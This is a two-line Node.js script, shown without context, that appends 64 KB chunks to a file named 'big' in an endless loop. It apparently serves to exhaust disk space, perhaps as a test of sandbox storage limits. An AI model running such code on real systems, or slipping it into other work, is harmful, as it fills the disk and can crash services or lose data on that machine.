const fs = require("fs");
while (true) fs.appendFileSync("big", "x".repeat(65536));
